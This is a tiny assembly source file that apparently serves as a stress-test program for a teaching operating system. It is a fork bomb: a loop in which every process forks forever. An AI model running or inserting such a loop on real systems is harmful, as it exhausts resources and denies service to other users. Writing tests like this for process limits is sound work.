# bomb_processes.asm - forks for ever, and so does every child.
        .globl  main
main:   call    process_fork
        j       main
